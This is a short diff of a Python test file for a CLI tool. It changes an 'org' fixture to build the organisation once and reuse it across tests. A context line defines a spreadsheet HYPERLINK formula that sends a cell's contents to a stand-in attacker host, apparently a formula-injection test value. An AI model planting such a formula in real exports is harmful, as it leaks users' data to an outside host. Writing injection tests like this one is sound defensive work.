@@ -46,7 +46,7 @@ from core.uow import UnitOfWork
 from core.yamlfile import ConfigFileError
 from ops.cli import app
 from tests.builders import build_org, draft, local_now
-from tests.conftest import ROOT
+from tests.conftest import ROOT, built_once
 
 SAMPLE = ROOT / "docs" / "samples" / "fhir-bundle-sample.json"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -54,8 +54,8 @@ runner = CliRunner(env={"COLUMNS": "200"})
 
 
 @pytest.fixture
-def org(engine):
-    return build_org(engine)
+def org(engine, db_url: str):
+    return built_once("org", db_url, build_org)  # built once, copied per test
 
 
 def _period():
